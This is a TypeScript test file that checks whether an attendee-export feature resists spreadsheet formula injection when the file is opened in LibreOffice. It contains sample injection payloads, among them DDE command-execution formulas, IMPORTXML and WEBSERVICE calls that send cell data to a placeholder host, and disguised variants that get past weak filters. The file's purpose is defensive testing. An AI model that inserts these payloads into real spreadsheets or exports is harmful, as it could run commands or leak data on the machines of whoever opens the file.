import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { startTestServer, type TestServer } from '@vestry/server/testing/start-test-server.ts'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { findOffice } from './find-programs.ts'

// SQLite alone: it is about what a spreadsheet program reads.

/** What spreadsheets calculate, call or open, and what hides that from a careless guard. */
const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '=cmd|" /C calc"!A0', '=HYPERLINK("http://x.test","here")'],
  ...[
    `=IMPORTXML(CONCAT("http://x.test?",A1),"//a")`,
    `=DDE("cmd";"/C calc";"a")`,
    '=WEBSERVICE("http://x.test")',
  ],
  ...[
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    ' =1+1',
    '\t=1+1',
    '\u200b=1+1',
    '\u00a0=1+1',
    "'=1+1",
    '"=1+1"',
  ],
  ...['a;=1+1', 'a,=1+1', 'a";=1+1;"', 'one\n=1+1', 'one\r\n+1+1', '{=1+1}', '=1+1;', "''=1+1", '=\n1+1'],
]
/** Commas, quotes and UTF-8, every cell as whatever it looks like, and formulas calculated: the least careful way to open one. */
const CARELESS = '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'

let folder: string
let office: string
let server: TestServer

beforeAll(async () => {
  office = findOffice()
  folder = mkdtempSync(join(tmpdir(), 'vestry-sheet-'))
  server = await startTestServer()
  for (const [at, notes] of FORMULAS.entries()) {
    const child = { first_name: `Child ${at}`, last_name: 'Quillfeather', parent_contact: notes.slice(0, 40) }
    await server.ask('POST /attendees', { body: { ...child, notes, allergies: notes, needs: notes } })
  }
}, 240_000)
afterAll(async () => {
  await server?.destroy()
  rmSync(folder, { recursive: true, force: true })
})

/** What LibreOffice makes of a file: its formulas, and how many rows it has. */
function open(name: string, content: string | Buffer, ...options: string[]) {
  const file = join(folder, name)
  writeFileSync(file, content)
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
  execFileSync(
    office,
    [profile, '--headless', '--convert-to', 'fods', ...options, '--outdir', folder, file],
    {
      stdio: 'ignore',
      timeout: 120_000,
    },
  )
  const sheet = readFileSync(
    join(folder, `${basename(name, name.slice(name.lastIndexOf('.')))}.fods`),
    'utf8',
  )
  return {
    formulas: [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula),
    children: new Set([...sheet.matchAll(/Child (\d+)/g)].map(([, number]) => number)).size,
  }
}

async function download(format: string) {
  const { rawPayload, statusCode } = await server.app.http.inject({
    url: '/api/attendees/export',
    query: { format, with: 'contacts,birthdates,care' },
    headers: { authorization: `Bearer ${await server.signIn()}` },
  })
  expect(statusCode).toBe(200)
  return rawPayload
}

test('LibreOffice would calculate these texts, if they were not guarded', () => {
  const unguarded = FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"\r\n`).join('')
  expect(open('unguarded.csv', unguarded, CARELESS).formulas.length).toBeGreaterThan(5)
}, 120_000)

test.each([
  ['csv', CARELESS],
  ['xlsx', ''],
])(
  'of an export as %s it calculates nothing',
  async (format, option) => {
    const { formulas, children } = open(
      `export.${format}`,
      await download(format),
      ...[option].filter(Boolean),
    )
    expect([formulas, children]).toEqual([[], FORMULAS.length])
  },
  120_000,
)
